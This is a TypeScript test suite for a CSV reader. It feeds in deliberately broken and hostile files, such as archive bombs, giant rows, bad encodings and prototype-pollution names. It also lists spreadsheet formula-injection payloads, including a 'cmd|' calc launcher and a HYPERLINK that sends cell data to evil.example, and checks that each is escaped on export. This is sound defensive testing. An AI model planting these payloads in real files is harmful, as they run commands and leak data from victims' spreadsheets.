// Files that are made to break their reader. Each is read, or refused with a reason, by the thread that the workers have,
// within its bounds of memory; no thread ends by it. Lines of docs/bad-input.md.
import { createServer } from "node:http";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BadFile } from "./bad-file.ts";
import { lineOf } from "./clean.ts";
import { readCsv, type Reading } from "./read.ts";
import { openScratch } from "./scratch.ts";

const MEGABYTE = 1024 * 1024;
let content: Buffer | string = "";
const server = createServer((_request, response) => response.end(content));
let url: string;
let threads = 0;
/** The picture of an ordinary file, before all others. */
let before: Uint8Array | undefined;
const count = (): void => void (threads += 1);

beforeAll(async () => {
  process.on("worker", count);
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  url = `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`;
});
beforeAll(async () => {
  before = await pictureOf(ordinary);
  expect(before?.length).toBeGreaterThan(1000);
});
afterAll(() => {
  process.off("worker", count);
  server.closeAllConnections();
  server.close();
});

/** What the thread says of a file: the key of the reason, or what it read. */
async function read(bytes: Buffer | string, name = "table.csv"): Promise<string | Reading> {
  content = bytes;
  const file = await openScratch();
  try {
    const reading = await readCsv({
      ...{ url, fd: file.fd, name, locale: "en" },
      signal: AbortSignal.timeout(60_000),
      progress: () => Promise.resolve(),
    });
    if ("why" in reading) throw new Error(reading.description);
    return reading;
  } catch (error) {
    if (error instanceof BadFile) return error.key;
    throw error;
  } finally {
    await file.close();
  }
}

const ordinary = "city,n\nRiga,5\nOslo,7\nRiga,1\n";
const pictureOf = async (text: string): Promise<Uint8Array | undefined> => {
  const reading = await read(text);
  return typeof reading === "string" ? undefined : reading.chart?.png;
};

/** A text again and again, as many bytes as asked for. */
const much = (text: string, bytes = MEGABYTE): Buffer => Buffer.alloc(bytes, text);
const rows = (count: number, row: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => row(n)).join("\n");
const columns = (count: number, cell: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => cell(n)).join(",");

/** `read` is a file that can be read, however odd. */
const files: Readonly<Record<string, readonly [said: string, make: () => Buffer | string]>> = {
  "a zip archive, which is not unpacked": [
    "csv-bad-excel",
    () => Buffer.concat([Buffer.from("PK\x03\x04"), much("\0")]),
  ],
  "a gzip archive, which is not unpacked": [
    "csv-bad-archive",
    () => Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), much("\0")]),
  ],
  "a program": ["csv-bad-kind", () => "MZ\x90\0\x03"],
  "a page": ["csv-bad-kind", () => "\n\n<!DOCTYPE html><table>"],
  "a million columns": ["csv-bad-columns", () => `${",".repeat(200_000)}\n`],
  "a million columns and more": ["csv-bad-long", () => ",".repeat(1_000_000)],
  "a million columns in the second line": ["read", () => `a,b\n${",".repeat(200_000)}\n`],
  "250 000 rows": ["read", () => much("1\n", 500_000)],
  "200 columns": ["read", () => `${columns(200, (n) => `c${n}`)}\n${rows(500, () => columns(200, String))}`],
  "201 columns": ["csv-bad-columns", () => `${columns(201, (n) => `c${n}`)}\n1`],
  "200 columns of texts that all differ": [
    "read",
    () =>
      `${columns(200, (n) => `c${n}`)}\n${rows(500, (row) => columns(200, (n) => `${row} ${n} some text`))}`,
  ],
  "names of columns as long as a record may be": [
    "read",
    () => `${columns(100, (n) => `${n}${"x".repeat(2000)}`)}\n${columns(100, String)}\n`,
  ],
  "200 columns of one name": ["read", () => `${columns(200, () => "a")}\n${columns(200, String)}\n`],
  "only quotes": ["csv-bad-quote", () => much('"', MEGABYTE + 1)],
  "a quote without an end": ["csv-bad-quote", () => `a,b\n"${"x,y\n".repeat(100_000)}`],
  "a quote without an end in the last line": ["csv-bad-quote", () => 'a,b\n1,2\n3,"'],
  "quotes in quotes": ["csv-bad-quote", () => `a,b\n"${'""'.repeat(200_000)}`],
  "quotes where none belong": ["read", () => 'a,b\n1"2,3"4\nx""y,z\n'],
  "only delimiters": ["csv-bad-long", () => much(",")],
  "only ends of lines": ["csv-bad-empty", () => much("\r\n")],
  "only carriage returns": ["csv-bad-empty", () => much("\r")],
  "only spaces": ["csv-bad-empty", () => much(" ")],
  "one line of 1 MB": ["csv-bad-long", () => much("x")],
  "a line of 1 MB behind good ones": ["csv-bad-long", () => `a,b\n1,2\n${much("x").toString()}`],
  "a cell of 250 kB": ["read", () => `a,b\n${"x".repeat(250_000)},1\n`],
  NULs: ["csv-bad-nul", () => `a,b\n1,\0\n`],
  "a NUL at the very end": ["csv-bad-nul", () => `a,b\n${"1,2\n".repeat(20_000)}\0`],
  "control characters": ["read", () => `a\x01,b\x1b\n\x02x,5\n\x7fy,7\n\x02x,9\n\x7fy,8\n`],
  "what is no character": ["read", () => "a\ufffe,b\nx\uffff,5\ny\u{1fffe},7\nx\uffff,9\ny\u{1fffe},1\n"],
  "marks on marks, and turned ones": [
    "read",
    () => `\u202ea,b\nZ${"\u0351".repeat(100)},5\n\u2066x,7\nZ${"\u0351".repeat(100)},9\n\u2066x,1\n`,
  ],
  "tags and entities": ["read", () => "a<b>,&amp;\n</svg><script>,5\n]]>,7\n</svg><script>,9\n]]>,1\n"],
  "names that objects have": [
    "read",
    () => "__proto__,constructor\ntoString,5\n__proto__,7\ntoString,9\n__proto__,1\n",
  ],
  "UTF-16": ["read", () => Buffer.from(`\ufeff${"a,b\n1,2\n".repeat(10_000)}`, "utf16le")],
  "UTF-16 that is cut in a letter": [
    "read",
    () => Buffer.from("\ufeffa,b\n1,2\n3,4", "utf16le").subarray(0, -1),
  ],
  "UTF-16 that is none": ["csv-bad-empty", () => Buffer.from("\ufeff", "utf16le")],
  "lone halves of pairs in UTF-16": [
    "read",
    () => Buffer.from("\ufeffa,b\n\ud800,5\n\udfff,7\n\ud800,9\n\udfff,1\n", "utf16le"),
  ],
  "bytes that are no UTF-8": ["read", () => Buffer.concat([Buffer.from("a,b\n"), much("\xff,1\n", 100_000)])],
  "delimiters of all kinds": ["csv-bad-cells", () => "a,b;c\td|e\n1;2;3\n4\t5\n6|7\n8;9;1\n"],
  "a delimiter that is named and is none": ["read", () => 'sep="\na"b\n1"2\n'],
  "rows of all lengths": ["read", () => rows(1000, (n) => ",".repeat(n % 50))],
  "numbers that are too large": ["read", () => `a\n${"1e308\n".repeat(1000)}-1e308\n1e309\n1e-400\n`],
  "numbers of spaces": ["read", () => `a,b\n${`(${" ".repeat(38)}x,1\n`.repeat(10_000)}`],
  "numbers of points": ["read", () => `a;b\n${`${"1,".repeat(19)}1x;1\n`.repeat(10_000)}`],
  "dates outside of all calendars": [
    "read",
    () => "d,n\n0000-01-01,1\n9999-12-31,2\n0001-01-01,3\n9999-12-31 23:59:59-23:59,4\n",
  ],
  "dates in all orders": [
    "read",
    () => "d,n\n2026-01-02,1\n02.01.2026,2\n1/2/26,3\n2026/01/02,4\n02-01-2026,5\n",
  ],
  "an address, a formula and a command": ["read", () => "=1+1,b\n@SUM(A1),5\n|cmd,7\n"],
};

describe("a file of", () => {
  it.each(Object.entries(files))(
    "%s",
    async (_, [said, make]) => {
      const got = await read(make());
      expect(typeof got === "string" ? got : "read").toBe(said);
      if (typeof got === "string") return;
      expect(got.summary.length).toBeLessThan(4096);
    },
    60_000,
  );

  it("bytes of any kind", async () => {
    let state = 1;
    const bytes = Buffer.from(
      Array.from({ length: 100_000 }, () => (state = (state * 48_271) % 2_147_483_647) % 256),
    );
    for (let n = 0; n < 20; n += 1) {
      const got = await read(bytes.subarray(n * 4999));
      if (typeof got === "string") expect(got).toMatch(/^csv-bad-/);
    }
  });

  it("no file ended the thread, or shows in the pictures of others", async () => {
    expect(await pictureOf(ordinary)).toEqual(before);
    expect(threads).toBe(1);
  });
});

/** What spreadsheet programs have taken for formulas. */
const formulas = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=IMPORTXML(A1,A2)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd",
  "--1",
  "=",
  "@",
];

describe("a cell that a spreadsheet program would take for a formula:", () => {
  it.each(formulas)("%j", (cell) => {
    for (const delimiter of [",", ";", "\t", "|"]) {
      const [first = ""] = lineOf([cell, "x"], delimiter).replace(/^"/, "");
      expect(first, delimiter).toBe("'");
    }
  });
});
